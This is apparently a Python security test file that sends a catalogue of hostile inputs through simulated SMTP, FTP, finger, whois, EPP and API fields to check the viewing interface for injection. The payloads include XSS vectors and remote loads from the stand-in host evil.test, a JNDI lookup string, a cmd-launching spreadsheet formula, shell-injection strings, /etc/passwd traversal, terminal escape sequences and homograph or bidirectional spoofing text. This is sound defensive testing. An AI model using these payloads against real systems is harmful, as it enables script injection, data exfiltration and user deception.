"""What clients may send to harm people who look at it, and the doors by which it comes in.

A script that runs sets `self.ran`, or opens a dialog; markup that loads something asks `evil.test` for it.
"""

import struct
from base64 import encodebytes
from contextlib import suppress
from urllib.error import HTTPError
from urllib.parse import quote
from xml.sax.saxutils import escape

from tests.page.traffic import Traffic

JS = "self.ran=1;parent.ran=1;alert(1)"
HTML = {
    "script": f"<script>{JS}</script>",
    "script-src": "<script src=http://evil.test/a.js></script>",
    "img-onerror": f"<img src=x onerror='{JS}'>",
    "img-remote": "<img src=http://evil.test/a.png srcset='//evil.test/b.png 2x'>",
    "body-onload": f"<body onload='{JS}'><body background=http://evil.test/c.png>",
    "iframe": f"<iframe src='javascript:{JS}'></iframe><iframe src=http://evil.test/d></iframe>",
    "iframe-srcdoc": f"<iframe srcdoc='<script>{JS}</script>'></iframe>",
    "details": f"<details open ontoggle='{JS}'>x</details>",
    "focus": f"<input autofocus onfocus='{JS}'><form action=http://evil.test/e><button autofocus>x</form>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=http://evil.test/f'>",
    "meta-policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "base": "<base href=http://evil.test/><a href=g>x</a><img src=h>",
    "object": "<object data=http://evil.test/i></object><embed src=http://evil.test/j>",
    "link": "<link rel=stylesheet href=http://evil.test/k.css><link rel=prefetch href=http://evil.test/l>"
    "<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>",
    "media": f"<video poster=http://evil.test/m src=http://evil.test/n></video><audio src=x onerror='{JS}'>",
    "ping": "<a href='#' ping=http://evil.test/o>click</a>",
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{JS}'>\">",
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={JS}&gt;'>",
    "ends": f"</title></style></textarea></script></template></xmp>--><script>{JS}</script>",
    "attribute": f'" onmouseover="{JS}" autofocus onfocus=\'{JS}\' x="',
    "our-elements": "<hp-list></hp-list><hp-command>x</hp-command><dialog open>token?<input type=password></dialog>",
    "clobber": "<form id=views><input name=length></form><a id=store></a><a id=store name=token href=x:y></a>",
    "plaintext": "<plaintext><!--",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &#x202e; &nbsp",
}
SVG = {
    "svg-onload": f"<svg onload='{JS}'></svg>",
    "svg-script": f"<svg><script>{JS}</script></svg>",
    "svg-animate": f"<svg><a><animate attributeName=href values='javascript:{JS}'/><text y=9>x</text></a></svg>",
    "svg-foreign": f"<svg><foreignObject><iframe src='javascript:{JS}'></iframe></foreignObject></svg>",
    "svg-use": "<svg><use href='http://evil.test/p.svg#x'/><image href='http://evil.test/q.png'/></svg>",
    "svg-style": "<svg><style>@import 'http://evil.test/r.css';</style></svg>",
}
CSS = {
    "style-import": "<style>@import url(http://evil.test/s.css); body { background: url(//evil.test/t) }</style>",
    "style-cover": "<div style='position:fixed;inset:0;z-index:9999;background:url(http://evil.test/u)'>Token?</div>",
    "style-font": "<style>@font-face{font-family:x;src:url(http://evil.test/v)} *{font-family:x!important}</style>",
    "style-attribute": "x; background: url(http://evil.test/w); } body { display: none !important",
    "style-huge": "<p style='width:99999px;font-size:900px'>wide</p><table width=99999><tr><td>x</table>",
}
ADDRESSES = {
    "javascript": f"javascript:{JS}",
    "javascript-tab": f"java\tscript:{JS}",
    "javascript-case": f" JaVaScRiPt&colon;{JS}",
    "data-html": f"data:text/html,<script>{JS}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "protocol-relative": "//evil.test/x",
    "homograph": "https://xn--80ak6aa92e.test/ \u0430\u0440\u0440\u04cf\u0435.test",
    "homograph-mixed": "p\u0430ypal.test g\u043e\u043egle.test xn--pypal-4ve.test",
    "traversal": "../../../../etc/passwd%00.png?a=b#c",
    "fragment": "#/w/default/faults/new?from=reset&q=%22%3E",
}
CODE = {
    "template": "${alert(1)}{{constructor.constructor('alert(1)')()}}#{7*7}<%= 7*7 %>",
    "prototype": '{"__proto__": {"ran": 1}, "constructor": {"prototype": {"ran": 1}}}',
    "quotes": "';alert(1);//\\';alert(1);//\";alert(1);//\\\";alert(1)//--></script>",
    "shell": "$(touch /tmp/ran) `id` ; rm -rf x | cat && 'it''s' \"q\" \\",
    "formula": "=cmd|' /C calc'!A1",
    "format": "%s%n%x%p {0} %(name)s ${jndi:ldap://evil.test/a}",
    "name-proto": "__proto__",
    "name-constructor": "constructor",
    "name-tostring": "toString",
}
TEXT = {
    "rtl-override": "invoice\u202egpj.exe",
    "isolates": "\u2066\u2067\u2068left open \u202b\u202a",
    "zero-width": "ad\u200bmin\u200c\u200d\ufeff\u2060\u00ad",
    "tags": "x\U000e0041\U000e0042\U000e007f",
    "zalgo": "Z" + "\u0300\u0316\u0489" * 150,
    "wide": "\ufdfd" * 60,
    "one-word": "W" * 3000,
    "separators": "a\u2028b\u2029c\u0085d",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\u200d\u2620\ufe0f" * 20,
    "arabic": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd abc 123",
    "private": "\ue000\uf8ff\U0010ffff\ufffe",
    "tabs": "a\tb\t\t\tc" * 40,
}
BYTES = {
    "terminal-colours": b"\x1b[31mred\x1b[2J\x1b[H\x1b[?25l",
    "terminal-title": b"\x1b]0;owned\x07\x1b]8;;http://evil.test/\x1b\\link\x1b]8;;\x1b\\",
    "terminal-clipboard": b"\x1b]52;c;b3duZWQ=\x07\x1bP+q544e\x1b\\",
    "terminal-c1": b"\x9b31m\x90q\x9c",
    "overwrite": b"good\rbad \x08\x08\x08evil\x07\x7f",
    "null": b"a\x00b",
    "nulls": b"\x00" * 64,
    "controls": bytes(range(1, 32)).replace(b"\n", b"").replace(b"\r", b""),
    "utf-8-overlong": b"\xc0\xbcscript\xc0\xbe\xe0\x80\xbc",
    "utf-8-cut": b"caf\xc3",
    "utf-8-stray": b"\x80\xbf\xfe\xff\xf8\x88\x80\x80\x80",
    "utf-8-surrogates": b"\xed\xa0\xbd\xed\xb8\x80",
    "utf-16": "<script>alert(1)</script>".encode("utf-16"),
    "utf-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "latin-1": "Stra\u00dfe \u00e9\u00e0".encode("latin-1"),
    "shift-jis": b"\x83\x5c\x95\x5c\x8e\xa6<",
    "iso-2022-jp": b"\x1b$B<script>\x1b(B",
    "encoded-word": b"=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= =?utf-7?Q?+ADw-b+AD4-?= =?x?y?z?=",
    "mebibyte": b"x" * (1 << 20),
}
GROUPS: dict[str, dict[str, bytes]] = {
    "html": {name: text.encode() for name, text in HTML.items()},
    "svg-css": {name: text.encode() for name, text in (SVG | CSS).items()},
    "addresses-code": {name: text.encode() for name, text in (ADDRESSES | CODE).items()},
    "text": {name: text.encode() for name, text in TEXT.items()},
    "bytes": BYTES,
}
"""The payloads: by group and name."""
PLAIN_CONTACT = {"roid": "C9-X", "registrar": "harbour", "created": "2026-01-01T00:00:00Z", "postal": {}}


def through_every_door(traffic: Traffic, name: str, payload: bytes) -> set[str]:
    """Send a payload to every service in every place of its protocol, and by the API; return the calls that took it."""
    line = payload.replace(b"\r", b" ").replace(b"\n", b" ")
    _by_smtp(traffic, line)
    _by_ftp(traffic, line[:200])
    for service in ("finger", "whois", "echo", "discard"):
        traffic.say(service, payload + b"\r\n")
    _by_epp(traffic, name, line)
    return _by_api(traffic, name, payload[:3000].decode("utf-8", "replace"))


def _by_smtp(traffic: Traffic, line: bytes) -> None:
    short = line[:400]
    name = short.replace(b'"', b'\\"')
    # A longer line than SMTP takes arrives encoded, and is one line again when it is shown.
    encoded = [b"Content-Transfer-Encoding: base64", b"", *encodebytes(line).split()]
    body = [b"", line] if len(line) < 900 else encoded
    parts = [
        b"From: \"" + name + b"\" <a@evil.test>", b"To: " + short + b" <alice@homeport.test>",
        b"Subject: " + line[:900],
        b"Message-ID: <" + short + b"@evil.test>", b"X-Payload: " + short, b"Date: " + short, b"MIME-Version: 1.0",
        b'Content-Type: multipart/mixed; boundary="b"', b"", b"--b", b"Content-Type: text/plain; charset=" + short[:60],
        *body, b"--b", b"Content-Type: text/html; charset=utf-8", *body, b"--b",
        b'Content-Type: image/svg+xml; name="' + name + b'"', b"Content-ID: <" + short + b">",
        b'Content-Disposition: attachment; filename="' + name + b'"', *body, b"--b",
        b"Content-Type: " + short, *body, b"--b--",
    ]  # fmt: skip
    content = b"\r\n".join(b"." + part if part.startswith(b".") else part for part in parts)
    said = [
        b"EHLO client.example", b"HELP " + short, b"VRFY " + short, b"MAIL FROM:<" + short + b"@evil.test>", b"RSET",
        b"MAIL FROM:<a@evil.test>", b'RCPT TO:<"' + name[:50] + b'"@homeport.test>', b"RCPT TO:<alice@homeport.test>",
        b"DATA", content, b".", b"QUIT", b"",
    ]  # fmt: skip
    traffic.say("smtp", b"\r\n".join(said))
    traffic.say("smtp", b"EHLO " + short + b"\r\n" + short + b"\r\nQUIT\r\n")


def _by_ftp(traffic: Traffic, short: bytes) -> None:
    said = [b"USER alice", b"PASS alice-pass", b"CLNT " + short, b"MKD " + short, b"CWD " + short, b"SITE " + short]
    traffic.say("ftp", b"\r\n".join([*said, b"USER " + short, b"QUIT", b""]))


def _by_epp(traffic: Traffic, name: str, line: bytes) -> None:
    text = "".join(c for c in line[:60].decode("utf-8", "replace") if c >= " " and c not in "\ufffe\uffff")
    command = (
        '<?xml version="1.0"?><epp xmlns="urn:ietf:params:xml:ns:epp-1.0"><command><info><domain:info '
        f'xmlns:domain="urn:ietf:params:xml:ns:domain-1.0"><domain:name>{escape(text)}.test</domain:name></domain:info>'
        f"</info><clTRID>{escape(text.strip() or name)}</clTRID></command></epp>"
    )
    with suppress(OSError, struct.error):
        traffic.epp(command, line[:4000])


def _by_api(traffic: Traffic, name: str, text: str) -> set[str]:
    world = "/worlds/default"
    login = f"x-{name}"[:32]
    file = quote(text[:80].replace("/", "_"), safe="")
    contact = {"id": f"X-{name}"[:16], **PLAIN_CONTACT, "local_postal": {"name": text[:255], "city": text[:255]}}
    calls = [
        ("PUT", f"{world}/people/{login}", {"login": login, "name": text[:200], "plan": text}),
        ("PUT", f"{world}/presence/{login}", {"login": login, "terminal": text[:32], "origin": text[:200]}),
        ("PUT", f"{world}/registry/contacts/{contact['id']}", contact),
        ("PUT", f"{world}/ftp/files/pub/{file}.txt", text.encode("utf-8", "replace")),
        ("POST", f"{world}/registry/registrars/harbour/messages", {"text": text}),
        ("PUT", f"{world}/quotes", {"items": [text]}),
        ("POST", f"{world}/faults", {"service": "smtp", "match": {"verb": text[:40]},
                                     "do": {"reply": {"code": 451, "text": text}}}),
        ("POST", f"{world}/faults", {"service": "finger", "match": {"peer": "192.0.2.1"},
                                     "do": {"answer": {"text": text}}}),
    ]  # fmt: skip
    taken = set()
    for method, path, body in calls:
        with suppress(HTTPError):
            traffic.ask(method, path, body)
            taken.add(path.removeprefix(f"{world}/").split("/")[0])
    return taken
